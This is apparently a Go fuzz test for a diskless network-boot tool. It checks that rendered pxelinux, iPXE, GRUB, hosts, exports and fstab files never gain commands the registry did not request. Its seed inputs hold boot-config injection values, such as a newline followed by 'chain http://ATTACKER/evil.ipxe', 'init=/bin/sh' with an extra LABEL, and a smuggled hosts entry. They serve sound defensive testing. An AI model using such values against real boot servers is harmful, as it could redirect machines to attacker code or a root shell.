package netboot_test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/diskless-project/diskless/kernel"
	"github.com/diskless-project/diskless/netboot"
	"github.com/diskless-project/diskless/netboot/nettest"
	"github.com/diskless-project/diskless/nfs"
	"github.com/diskless-project/diskless/rootfs"
	"github.com/diskless-project/diskless/slave"
)

// FuzzRenderSlave: a rendered file never gains a line, a command or an
// argument the registry did not ask for. Every file a slave reaches (its
// pxelinux, iPXE and GRUB configs, its /etc/hosts line, the exports and its
// fstab) is read back the way its consumer reads it and compared with what
// the slave asked for. Slaves that pass validation must boot with exactly
// their words; any other slave (a registry that skipped validation) must
// still render to a well-formed file: the boot config or the local-boot one.
func FuzzRenderSlave(f *testing.F) {
	f.Add(byte(21), "00:02:a5:04:3b:66", "slave21", "6.1.0", "console=ttyS0", "", "rack 1")
	f.Add(byte(22), "00:02:a5:04:3b:67", "n22", "6.1.0/vmlinuz\nchain http://ATTACKER/evil.ipxe\n#", "", "", "")
	f.Add(byte(23), "00:02:a5:04:3b:68", "n23", "", "quiet\n  APPEND init=/bin/sh\nLABEL evil", "", "")
	f.Add(byte(24), "00:02:a5:04:3b:69", "n24", "", "x=${net0/ip} || chain http://evil/ && shell ; #c", "s1", "")
	f.Add(byte(25), "00:02:a5:04:3b:6a", "n25\n10.0.0.1 evil", "", "a='b' \"c\" $x {y} |z", "s1\nx", "a\nb")
	f.Add(byte(26), "ff:ff:ff:ff:ff:ff", "n26", "6.1.0 initrd=x", "init=/bin/sh", "", "\x1b[2J")
	env := nettest.New(f, 64)
	r := &netboot.Renderer{Cfg: env.Cfg, Exists: func(string) bool { return true }}
	f.Fuzz(func(t *testing.T, last byte, mac, hostname, kver, args, bootServer, comment string) {
		s := slave.Slave{IP: netip.AddrFrom4([4]byte{192, 168, 1, last}), MAC: mac, Hostname: hostname,
			Kernel: kver, KernelArgs: args, BootServer: bootServer, Comment: comment}
		raw := s
		valid := s.Normalize(slave.Network{Subnet: env.Cfg.Subnet, Master: env.Cfg.Master}) == nil
		if !valid {
			s = raw // render what an unvalidated registry would hold
		}
		words, boots := bootWords(r, &s)
		if valid && !boots {
			t.Fatalf("valid slave %+v does not boot", s)
		}
		checkPXELinux(t, r.PXELinux(&s), words, boots)
		checkIPXE(t, r.IPXE(&s), words, boots)
		checkGRUB(t, r.GRUB(&s), words, boots)

		reg := &slave.Registry{Slaves: []slave.Slave{s}}
		hosts := slave.HostsLines(reg, env.Cfg.Domain)
		if valid && len(hosts) != 1 {
			t.Fatalf("hosts lines %q for valid %+v", hosts, s)
		}
		for _, l := range hosts {
			if f := strings.Fields(l); strings.ContainsAny(l, "\n\r#") || len(f) < 2 || len(f) > 3 || f[0] != s.IP.String() || f[len(f)-1] != s.Hostname {
				t.Fatalf("hosts line %q for %+v", l, s)
			}
		}
		exps := nfs.Exports(env.Cfg, reg)
		lines := nfs.ExportsLines(exps)
		if n := strings.Count(strings.Join(lines, "\n"), "\n") + 1; n != len(lines) || len(lines) != len(exps)+2 {
			t.Fatalf("exports lines %q for %d exports", lines, len(exps))
		}
		if !valid {
			return
		}
		fstab := rootfs.RenderFstab(rootfs.FstabParams{Server: env.Cfg.Master, DisklessDir: env.Cfg.DisklessDir, IP: s.IP, MountOptions: env.Cfg.NFS.MountOptions})
		for _, l := range strings.Split(strings.TrimSuffix(fstab, "\n"), "\n") {
			if !strings.HasPrefix(l, "#") && len(strings.Fields(l)) != 6 {
				t.Fatalf("fstab line %q", l)
			}
		}
		if h := rootfs.RenderHostname(s.Hostname); strings.Count(h, "\n") != 1 || strings.TrimSpace(h) != s.Hostname {
			t.Fatalf("hostname file %q", h)
		}
		if h := rootfs.MergeConfdHostname("", s.Hostname); h != fmt.Sprintf("hostname=\"%s\"\n", s.Hostname) {
			t.Fatalf("conf.d/hostname %q", h)
		}
	})
}

// bootWords is the kernel command line a slave asks for, word by word, and
// whether it boots over the network at all.
func bootWords(r *netboot.Renderer, s *slave.Slave) ([]string, bool) {
	v := r.KernelVersion(s)
	return strings.Fields(r.KernelArgs(s)), v != "" && kernel.CheckVersion(v) == nil
}

// lines splits a rendered file; it must end in exactly one newline.
func lines(t *testing.T, data []byte) []string {
	t.Helper()
	s := string(data)
	if !strings.HasSuffix(s, "\n") || strings.ContainsAny(s, "\r\x00") {
		t.Fatalf("rendered file is not plain lines: %q", s)
	}
	return strings.Split(strings.TrimSuffix(s, "\n"), "\n")
}

func header(t *testing.T, l string) {
	t.Helper()
	if !strings.HasPrefix(l, "# ") || !strings.HasSuffix(l, netboot.Header) {
		t.Fatalf("header line %q", l)
	}
}

func checkPXELinux(t *testing.T, data []byte, words []string, boots bool) {
	ls := lines(t, data)
	header(t, ls[0])
	var directives []string
	for _, l := range ls[1:] {
		if strings.HasPrefix(l, "#") {
			continue
		}
		directives = append(directives, l)
	}
	local := []string{"DEFAULT local", "PROMPT 0", "LABEL local", "  LOCALBOOT 0"}
	if slices.Equal(directives, local) && len(ls) == 6 {
		return // a network boot refused: local disk, one comment saying why
	}
	if len(directives) != 7 || len(ls) != 8 || !boots {
		t.Fatalf("pxelinux config has %d lines, %d directives (boots %v):\n%s", len(ls), len(directives), boots, data)
	}
	want := []string{"DEFAULT diskless", "PROMPT 0", "TIMEOUT 0", "LABEL diskless"}
	if !slices.Equal(directives[:4], want) || !strings.HasPrefix(directives[4], "  KERNEL kernels/") ||
		!strings.HasPrefix(directives[5], "  INITRD kernels/") || !strings.HasPrefix(directives[6], "  APPEND ") {
		t.Fatalf("pxelinux directives:\n%s", data)
	}
	if got := strings.Fields(strings.TrimPrefix(directives[6], "  APPEND ")); !slices.Equal(got, words) {
		t.Fatalf("APPEND words %q, want %q", got, words)
	}
}

// ipxeCommands reads a script as iPXE does: per line, words split at white
// space, a word starting with # ends the line, ||, && and ; split commands,
// and ${...} would expand (reported as an error here: none is ever written).
func ipxeCommands(t *testing.T, ls []string) [][]string {
	var cmds [][]string
	for _, l := range ls[1:] {
		var cur []string
		for _, w := range strings.Fields(l) {
			if strings.HasPrefix(w, "#") {
				break
			}
			if w == "||" || w == "&&" || w == ";" {
				cmds, cur = append(cmds, cur), nil
				continue
			}
			if strings.Contains(w, "${") {
				t.Fatalf("iPXE would expand %q in %q", w, l)
			}
			cur = append(cur, w)
		}
		if len(cur) > 0 {
			cmds = append(cmds, cur)
		}
	}
	return cmds
}

func checkIPXE(t *testing.T, data []byte, words []string, boots bool) {
	ls := lines(t, data)
	if ls[0] != "#!ipxe" {
		t.Fatalf("iPXE script starts with %q", ls[0])
	}
	header(t, ls[1])
	cmds := ipxeCommands(t, ls)
	if len(cmds) == 2 && len(ls) == 4 && cmds[0][0] == "echo" && slices.Equal(cmds[1], []string{"exit"}) {
		return
	}
	// kernel URL initrd=NAME WORDS..., initrd --name NAME URL, boot: the
	// initrd named for iPXE's older EFI builds (see Renderer.IPXE).
	if len(cmds) != 3 || len(ls) != 5 || !boots || cmds[0][0] != "kernel" || len(cmds[0]) < 3 || cmds[0][2] != "initrd="+netboot.IPXEInitrdName ||
		len(cmds[1]) != 4 || !slices.Equal(cmds[1][:3], []string{"initrd", "--name", netboot.IPXEInitrdName}) || !slices.Equal(cmds[2], []string{"boot"}) {
		t.Fatalf("iPXE commands %q (boots %v):\n%s", cmds, boots, data)
	}
	if got := cmds[0][3:]; !slices.Equal(got, words) {
		t.Fatalf("iPXE kernel words %q, want %q", got, words)
	}
}

// grubWords reads one line as GRUB's shell-like parser does (GRUB manual,
// "Shell-like scripting"): words split at blanks; 'single quotes' literal;
// \ escapes one character; "double quotes" and $ would expand, and the
// metacharacters { } | & ; < > stand alone. Expansions are an error here;
// a metacharacter is returned as a word of its own prefixed with "META:".
func grubWords(t *testing.T, l string) []string {
	var out []string
	var cur strings.Builder
	in := false
	flush := func() {
		if in {
			out = append(out, cur.String())
			cur.Reset()
			in = false
		}
	}
	for i := 0; i < len(l); i++ {
		c := l[i]
		switch {
		case c == ' ' || c == '\t':
			flush()
		case c == '#' && !in:
			return out
		case c == '\'':
			j := strings.IndexByte(l[i+1:], '\'')
			if j < 0 {
				t.Fatalf("unterminated quote in GRUB line %q", l)
			}
			cur.WriteString(l[i+1 : i+1+j])
			i += j + 1
			in = true
		case c == '\\':
			if i+1 < len(l) {
				i++
				cur.WriteByte(l[i])
			}
			in = true
		case c == '"' || c == '$':
			t.Fatalf("GRUB would expand in %q", l)
		case strings.IndexByte("{}|&;<>", c) >= 0:
			flush()
			out = append(out, "META:"+string(c))
		default:
			cur.WriteByte(c)
			in = true
		}
	}
	flush()
	return out
}

func checkGRUB(t *testing.T, data []byte, words []string, boots bool) {
	ls := lines(t, data)
	header(t, ls[0])
	var cmds [][]string
	for _, l := range ls[1:] {
		if w := grubWords(t, l); len(w) > 0 {
			cmds = append(cmds, w)
		}
	}
	if len(cmds) == 2 && len(ls) == 3 && cmds[0][0] == "echo" && len(cmds[0]) == 2 && slices.Equal(cmds[1], []string{"exit"}) {
		return
	}
	if len(cmds) != 6 || len(ls) != 7 || !boots {
		t.Fatalf("GRUB config has %d commands (boots %v):\n%s", len(cmds), boots, data)
	}
	if !slices.Equal(cmds[0], []string{"set", "timeout=0"}) || !slices.Equal(cmds[1], []string{"set", "default=0"}) ||
		len(cmds[2]) != 3 || cmds[2][0] != "menuentry" || cmds[2][2] != "META:{" ||
		cmds[3][0] != "linux" || cmds[4][0] != "initrd" || len(cmds[4]) != 2 || !slices.Equal(cmds[5], []string{"META:}"}) {
		t.Fatalf("GRUB commands %q:\n%s", cmds, data)
	}
	if got := cmds[3][2:]; !slices.Equal(got, words) {
		t.Fatalf("GRUB linux words %q, want %q", got, words)
	}
}
